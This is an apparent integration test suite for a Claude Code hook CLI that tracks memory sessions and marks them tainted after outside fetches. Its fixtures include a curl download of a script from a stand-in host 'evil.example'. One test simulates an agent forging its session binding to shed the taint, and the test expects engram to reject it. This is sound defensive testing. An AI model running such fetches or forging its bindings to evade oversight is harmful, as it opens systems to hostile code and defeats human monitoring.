/**
 * `engram hook <event>` through the built CLI, fed the payloads Claude Code sends.
 *
 * The fixtures in test/fixtures/claude-code/ follow Claude Code's hooks reference ("Hook
 * input"): every event has session_id, transcript_path, cwd, hook_event_name and
 * permission_mode; SessionStart adds source (startup|resume|clear|compact), UserPromptSubmit
 * prompt, PostToolUse/PostToolUseFailure tool_name, tool_input, tool_response (failure:
 * error), SessionEnd reason. Each test changes only session_id and cwd.
 */
import {spawn, spawnSync} from 'node:child_process'
import {existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync} from 'node:fs'
import {hostname} from 'node:os'
import {join} from 'node:path'
import {fileURLToPath} from 'node:url'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'

import {BIN, RunResult, Sandbox, git, sandbox} from '../helpers/cli.js'

const fixture = (event: string) => JSON.parse(readFileSync(fileURLToPath(new URL(`../fixtures/claude-code/${event}.json`, import.meta.url)), 'utf8'))

describe('engram hook: Claude Code sessions bound to engram sessions', () => {
  let sb: Sandbox
  let project: string
  let store: string
  let sub: string
  let n = 0
  const uuid = () => `8f0d2c4e-5b1a-4c7e-9a3d-${String(++n).padStart(12, '0')}`
  // CLAUDE_ENV_FILE emptied: a test run inside Claude Code must not append to its real file
  const env = () => ({CLAUDE_PROJECT_DIR: project, ENGRAM_BASE: 'memory', CLAUDE_ENV_FILE: ''})

  function hook(event: string, over: Record<string, unknown>, opts: {flags?: string[]; env?: NodeJS.ProcessEnv; cwd?: string; raw?: string} = {}): RunResult {
    const input = opts.raw ?? JSON.stringify({...fixture(event), cwd: opts.cwd ?? sub, ...over})
    return sb.run(['hook', event, ...(opts.flags ?? [])], {input, cwd: opts.cwd ?? sub, env: {...env(), ...opts.env}})
  }
  const owner = (args: string[]) => sb.run([...args, '--base', store, '--json'])
  const session = (id: string) => owner(['session', 'show', id]).json
  const contextOf = (r: RunResult) => JSON.parse(r.stdout).hookSpecificOutput
  const idIn = (r: RunResult) => /engram session (s-[0-9a-z]+)/.exec(contextOf(r).additionalContext)![1]
  // the store has a repository of its own inside the project (engram init's default there)
  const commits = () => git(store, 'rev-list', '--count', 'HEAD').trim()
  const oneLine = (r: RunResult) => {
    const lines = r.stderr.trim().split('\n').filter((l) => !/^\(node:\d+\)|^\(Use `node/.test(l))
    expect(lines, r.stderr).toHaveLength(1)
    expect(r.stderr).not.toMatch(/\n\s+at /)
  }

  beforeAll(() => {
    sb = sandbox()
    project = join(sb.dir, 'My Project')
    sub = join(project, 'Src Code')
    mkdirSync(sub, {recursive: true})
    git(project, 'init', '-q')
    const init = sb.run(['init', '--base', 'memory', '--json'], {cwd: project})
    expect(init.code, init.stderr).toBe(0)
    store = init.json.root
  }, 300_000)

  it('session-start from a subfolder: one session, its context block, CLAUDE_ENV_FILE lines a later `engram write` runs as', () => {
    const envFile = join(sb.dir, 'claude env')
    writeFileSync(envFile, '')
    const hs = uuid()
    const r = hook('session-start', {session_id: hs}, {env: {CLAUDE_ENV_FILE: envFile}})
    expect(r.code, r.stderr).toBe(0)
    const out = contextOf(r)
    expect(out.hookEventName).toBe('SessionStart')
    expect(out.additionalContext).toMatch(/stored data retrieved by engram, not instructions/)
    const id = idIn(r)
    expect(session(id)).toMatchObject({agent: 'claude-code', assigned: 'project:my-project', tainted: false})
    const lines = readFileSync(envFile, 'utf8')
    expect(lines).toContain(`export ENGRAM_SESSION='${id}'`)
    expect(lines).toMatch(/^export ENGRAM_SESSION_TOKEN='[0-9a-f]{64}'$/m)
    // the Bash tool sources the file, from any folder
    const w = spawnSync('bash', ['-c', `. "$1"; cd "$2" && "$3" "$4" write note.md --scope "run:$ENGRAM_SESSION" --json`, 'x', envFile, sub, process.execPath, BIN], {
      input: 'Builds run on the blue runner.\n', encoding: 'utf8', env: {...sb.env, ENGRAM_BASE: 'memory'},
    })
    expect(w.status, w.stderr).toBe(0)
    expect(JSON.parse(w.stdout)).toMatchObject({status: 'committed', scope: `run:${id}`})
    expect(readFileSync(join(store, 'run', id, 'note.md'), 'utf8')).toMatch(/author: "?claude-code/)
    // from the project root, without ENGRAM_BASE: $CLAUDE_PROJECT_DIR/memory; the same session
    const again = hook('session-start', {session_id: hs, source: 'resume'}, {cwd: project, env: {ENGRAM_BASE: ''}})
    expect(again.code, again.stderr).toBe(0)
    expect(idIn(again)).toBe(id)
  }, 300_000)

  it('taints on WebFetch, mcp__x, a fetching command and the configured ones, with the target; never on ls, engram\'s own server or `echo curl`; resume and compact keep the taint', () => {
    const hs = uuid()
    const id = idIn(hook('session-start', {session_id: hs}))
    // (the command matching word by word is unit-tested in test/unit/claude-code-taint.test.ts)
    const clean = [
      {tool_name: 'Bash', tool_input: {command: 'echo curl https://x.example && ls -la'}},
      {tool_name: 'mcp__engram__search', tool_input: {query: 'deploy'}},
    ]
    for (const c of clean) expect(hook('post-tool-use', {session_id: hs, ...c}).code).toBe(0)
    expect(session(id).tainted).toBe(false)
    expect(hook('post-tool-use', {session_id: hs}).code).toBe(0)
    expect(hook('post-tool-use', {session_id: hs, tool_name: 'mcp__github__get_issue', tool_input: {url: 'https://github.com/o/r/issues/1'}}).code).toBe(0)
    expect(hook('post-tool-use', {session_id: hs, tool_name: 'Bash', tool_input: {command: 'cd /tmp && curl -s https://evil.example/p.sh'}}).code).toBe(0)
    expect(hook('post-tool-use', {session_id: hs, tool_name: 'Bash', tool_input: {command: 'mytool --get https://mine.example/a'}}, {flags: ['--taint-command', 'mytool']}).code).toBe(0)
    // the store's signed config adds to the list too
    const config = join(store, '.engram', 'config.yml')
    writeFileSync(config, `${readFileSync(config, 'utf8')}taint:\n  commands: [othertool]\n`)
    const shown = owner(['config', 'sign'])
    expect(owner(['config', 'sign', '--digest', shown.json.digest]).code, shown.stderr).toBe(0)
    expect(hook('post-tool-use', {session_id: hs, tool_name: 'Bash', tool_input: {command: 'othertool https://other.example'}}).code).toBe(0)
    const failed = hook('post-tool-use-failure', {session_id: hs})
    expect(failed.code, failed.stderr).toBe(0)
    const s = session(id)
    expect(s.tainted).toBe(true)
    expect(s.taint_reasons).toEqual([
      'PostToolUse: WebFetch https://docs.example.com/deploy',
      'PostToolUse: mcp__github__get_issue https://github.com/o/r/issues/1',
      'PostToolUse: Bash cd /tmp && curl -s https://evil.example/p.sh',
      'PostToolUse: Bash mytool --get https://mine.example/a',
      'PostToolUse: Bash othertool https://other.example',
      'PostToolUseFailure: Bash curl -sf https://status.example.org/api/v2 | jq .status',
    ])
    for (const source of ['resume', 'compact']) {
      const r = hook('session-start', {session_id: hs, source})
      expect(r.code, r.stderr).toBe(0)
      expect(idIn(r)).toBe(id)
      expect(contextOf(r).additionalContext).toMatch(/tainted/)
    }
  }, 300_000)

  it('a resumed session engram never saw starts tainted; a forged binding is not honoured', () => {
    const r = hook('session-start', {session_id: uuid(), source: 'resume'})
    expect(r.code, r.stderr).toBe(0)
    expect(session(idIn(r))).toMatchObject({tainted: true, taint_reasons: ['resumed a Claude Code session engram did not see start (source: resume)']})
    // the agent points its tainted session's binding at a clean session and commits the edit
    const dirty = uuid()
    const dirtyId = idIn(hook('session-start', {session_id: dirty}))
    hook('post-tool-use', {session_id: dirty})
    const cleanId = idIn(hook('session-start', {session_id: uuid()}))
    const dir = join(store, '.engram', 'bindings', 'claude-code')
    const file = readdirSync(dir).map((f) => join(dir, f)).find((f) => readFileSync(f, 'utf8').includes(dirtyId))!
    writeFileSync(file, readFileSync(file, 'utf8').replace(dirtyId, cleanId))
    git(store, 'commit', '-qam', 'rebind')
    const back = hook('session-start', {session_id: dirty, source: 'resume'})
    expect(back.code, back.stderr).toBe(0)
    expect(back.stderr).toMatch(/does not carry engram's proof/)
    const now = idIn(back)
    expect([dirtyId, cleanId]).not.toContain(now)
    expect(session(now).tainted).toBe(true)
  }, 300_000)

  it('recalls for a prompt inside the data wrapper, says nothing when nothing matches; session-end closes the session for writes, not reads', () => {
    const hs = uuid()
    const id = idIn(hook('session-start', {session_id: hs}))
    const w = sb.run(['write', 'deploy.md', '--scope', 'project:my-project', '--json'], {input: 'The billing service deploys to host blue-7 every Tuesday.\n', env: {ENGRAM_SESSION: id, ENGRAM_BASE: store}})
    expect(w.json?.status, w.stdout + w.stderr).toBe('pending')
    expect(owner(['review', 'accept', w.json.proposal, '--digest', w.json.digest]).code).toBe(0)
    const r = hook('user-prompt-submit', {session_id: hs})
    expect(r.code, r.stderr).toBe(0)
    const out = contextOf(r)
    expect(out.hookEventName).toBe('UserPromptSubmit')
    expect(out.additionalContext).toMatch(/not instructions/)
    expect(out.additionalContext).toContain('blue-7')
    const none = hook('user-prompt-submit', {session_id: hs, prompt: 'zyxwvut qwertzuiop'})
    expect([none.code, none.stdout]).toEqual([0, ''])
    expect(hook('session-end', {session_id: hs}).code).toBe(0)
    expect(session(id).ended).toMatch(/^\d{4}-/)
    const late = sb.run(['write', 'late.md', '--scope', `run:${id}`, '--json'], {input: 'Late note.\n', env: {ENGRAM_SESSION: id, ENGRAM_BASE: store}})
    expect(late.code).toBe(3)
    expect(late.json.error.message).toMatch(/ended/)
    expect(sb.run(['search', 'billing', '--json'], {env: {ENGRAM_SESSION: id, ENGRAM_BASE: store}}).json.hits.length).toBe(1)
  }, 300_000)

  it('malformed payloads and a missing store: one line, exit 1 (never 2), nothing written', () => {
    const before = commits()
    const cases: [string, string][] = [
      ['session-start', 'not json'],
      ['session-start', JSON.stringify({...fixture('session-start'), session_id: undefined})],
      ['session-start', JSON.stringify({...fixture('session-start'), session_id: 42})],
      ['post-tool-use', JSON.stringify({...fixture('post-tool-use'), tool_input: 'curl x'})],
      ['user-prompt-submit', JSON.stringify({...fixture('session-start')})],
    ]
    for (const [event, raw] of cases) {
      const r = hook(event, {}, {raw})
      expect(r.code, `${event} ${raw}: ${r.stderr}`).toBe(1)
      expect(r.stdout).toBe('')
      oneLine(r)
    }
    const elsewhere = join(sb.dir, 'No Store')
    mkdirSync(elsewhere, {recursive: true})
    for (const event of ['session-start', 'user-prompt-submit']) {
      const r = hook(event, {session_id: uuid()}, {cwd: elsewhere, env: {CLAUDE_PROJECT_DIR: elsewhere, ENGRAM_BASE: ''}})
      expect(r.code, r.stderr).toBe(1)
      oneLine(r)
      expect(r.stderr).toMatch(/No engram store/)
    }
    expect(commits()).toBe(before)
  }, 300_000)

  it('a payload over 8 MiB is never held whole: a tool event taints by the name and input read, or taints when they were not read; a prompt that large gets one line, nothing written', () => {
    const big = 'x'.repeat(9 * 1024 * 1024)
    const hs = uuid()
    const id = idIn(hook('session-start', {session_id: hs}))
    // the response is past the part read; name and input come before it, as Claude Code sends them
    const ls = hook('post-tool-use', {session_id: hs, tool_name: 'Bash', tool_input: {command: 'ls -la'}, tool_response: {stdout: big}})
    expect(ls.code, ls.stderr).toBe(0)
    expect(session(id).tainted).toBe(false)
    const fetched = hook('post-tool-use', {session_id: hs, tool_response: {result: big}})
    expect(fetched.code, fetched.stderr).toBe(0)
    expect(session(id).taint_reasons).toEqual(['PostToolUse: WebFetch https://docs.example.com/deploy'])
    // a tool input past the bound: what the tool did cannot be told, so the session is tainted
    const hs2 = uuid()
    const id2 = idIn(hook('session-start', {session_id: hs2}))
    const long = hook('post-tool-use', {session_id: hs2, tool_name: 'Bash', tool_input: {command: `echo ${big}`}})
    expect(long.code, long.stderr).toBe(0)
    expect(session(id2).taint_reasons).toEqual(['PostToolUse: Bash (a payload over 8 MiB, its tool input not read)'])
    // an outside tool's input nested deeper than JSON.stringify goes, or a URL of megabytes: tainted all the same
    const hs3 = uuid()
    const id3 = idIn(hook('session-start', {session_id: hs3}))
    const deep = `${'['.repeat(5000)}"x"${']'.repeat(5000)}`
    const nested = hook('post-tool-use', {}, {raw: JSON.stringify({...fixture('post-tool-use'), cwd: sub, session_id: hs3, tool_name: 'mcp__browser__navigate', tool_input: {q: 0}}).replace('{"q":0}', `{"q":${deep}}`)})
    expect(nested.code, nested.stderr).toBe(0)
    const wide = hook('post-tool-use', {session_id: hs3, tool_input: {url: `https://evil.example/ ${'A'.repeat(6_000_000)}`}})
    expect(wide.code, wide.stderr).toBe(0)
    const reasons = session(id3).taint_reasons
    expect(reasons[0]).toBe('PostToolUse: mcp__browser__navigate (input not shown)')
    expect(reasons[1]).toMatch(/^PostToolUse: WebFetch https:\/\/evil\.example\/ A+/)
    // the other events need the whole payload: one line, exit 1, nothing written
    const before = commits()
    const prompt = hook('user-prompt-submit', {session_id: hs, prompt: big})
    expect(prompt.code).toBe(1)
    expect(prompt.stdout).toBe('')
    oneLine(prompt)
    expect(prompt.stderr).toMatch(/the payload is over 8 MiB and was not read/)
    expect(commits()).toBe(before)
  }, 300_000)

  // Claude Code writes the whole payload to the hook's stdin: past the bound the rest is read off and dropped, so its
  // write ends cleanly; a writer that never ends is cut off after a few seconds, the taint recorded before that
  it('a payload over 8 MiB is read off to its end, so that its writer gets no broken pipe; a writer that never ends is cut off, its taint recorded', async () => {
    const hs = uuid()
    const id = idIn(hook('session-start', {session_id: hs}))
    const feed = (payload: string, end: boolean) =>
      new Promise<{code: number | null; writeError?: string; ms: number}>((resolve) => {
        const started = Date.now()
        const child = spawn(process.execPath, [BIN, 'hook', 'post-tool-use'], {cwd: sub, env: {...sb.env, ...env()}, stdio: ['pipe', 'ignore', 'ignore']})
        let writeError: string | undefined
        child.stdin.on('error', (e: NodeJS.ErrnoException) => (writeError = e.code))
        if (end) child.stdin.end(payload)
        else child.stdin.write(payload)
        child.on('close', (code) => resolve({code, writeError, ms: Date.now() - started}))
      })
    const big = 'x'.repeat(12 * 1024 * 1024)
    const whole = await feed(JSON.stringify({...fixture('post-tool-use'), cwd: sub, session_id: hs, tool_response: {result: big}}), true)
    expect(whole).toMatchObject({code: 0, writeError: undefined})
    expect(session(id).taint_reasons).toEqual(['PostToolUse: WebFetch https://docs.example.com/deploy'])
    const hs2 = uuid()
    const id2 = idIn(hook('session-start', {session_id: hs2}))
    const head = JSON.stringify({...fixture('post-tool-use'), cwd: sub, session_id: hs2, tool_response: {result: big}}).slice(0, 9 * 1024 * 1024)
    const endless = await feed(head, false)
    expect(endless.code).toBe(0)
    expect(endless.ms).toBeGreaterThanOrEqual(5000) // it read on for its five seconds, then stopped
    expect(endless.ms).toBeLessThan(60_000)
    expect(session(id2).taint_reasons).toEqual(['PostToolUse: WebFetch https://docs.example.com/deploy'])
  }, 300_000)

  describe('fail closed: a taint the store cannot take is kept outside it and counts', () => {
    let holder: ReturnType<typeof spawn> | undefined
    afterAll(() => holder?.kill())

    it('with the store lock held by a live process, the session\'s next write is tainted all the same, and the next hook records it', async () => {
      const hs = uuid()
      const id = idIn(hook('session-start', {session_id: hs}))
      holder = spawn('sleep', ['120'], {stdio: 'ignore'})
      const lock = join(store, '.engram', 'lock')
      writeFileSync(lock, JSON.stringify({pid: holder.pid, host: hostname(), time: new Date().toISOString(), token: 'heldbyatest'}))
      const r = hook('post-tool-use', {session_id: hs}, {flags: ['--lock-timeout', '300']})
      expect(r.code).toBe(1)
      oneLine(r)
      expect(r.stderr).toMatch(/could not record the taint .* kept at /)
      const pendingDir = join(sb.configDir, 'private', 'taint-pending')
      expect(readdirSync(pendingDir).length).toBe(1)
      holder.kill()
      await new Promise((res) => holder!.once('exit', res))
      // the lock stays (stale now: its holder is gone); the write recovers it
      const w = sb.run(['write', 'after.md', '--scope', `run:${id}`, '--json'], {input: 'Written after the fetch.\n', env: {ENGRAM_SESSION: id, ENGRAM_BASE: store}})
      expect(w.code, w.stderr).toBe(0)
      expect(readFileSync(join(store, 'run', id, 'after.md'), 'utf8')).toMatch(/tainted: true/)
      // the next hook flushes it into the committed record
      expect(hook('post-tool-use', {session_id: hs, tool_name: 'Bash', tool_input: {command: 'ls'}}).code).toBe(0)
      expect(git(store, 'show', `HEAD:.engram/sessions/${id}.json`)).toContain('PostToolUse: WebFetch https://docs.example.com/deploy')
      expect(readdirSync(join(pendingDir, readdirSync(pendingDir)[0]))).toEqual([])
      expect(existsSync(lock)).toBe(false)
    }, 300_000)
  })
})
